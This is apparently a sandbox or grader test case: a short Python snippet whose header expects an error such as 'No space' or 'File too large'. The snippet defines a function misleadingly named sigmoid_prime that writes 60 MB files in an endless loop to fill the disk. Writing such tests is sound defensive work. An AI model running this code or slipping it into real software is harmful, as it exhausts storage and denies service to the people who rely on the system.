# verdict: error
# says: OSError|File too large|No space|ended before|did not finish
import os
def sigmoid_prime(z):
    n = 0
    while True:
        n += 1
        with open('file%d' % n, 'wb') as file:
            for _ in range(60):
                file.write(b'x' * 10 ** 6)
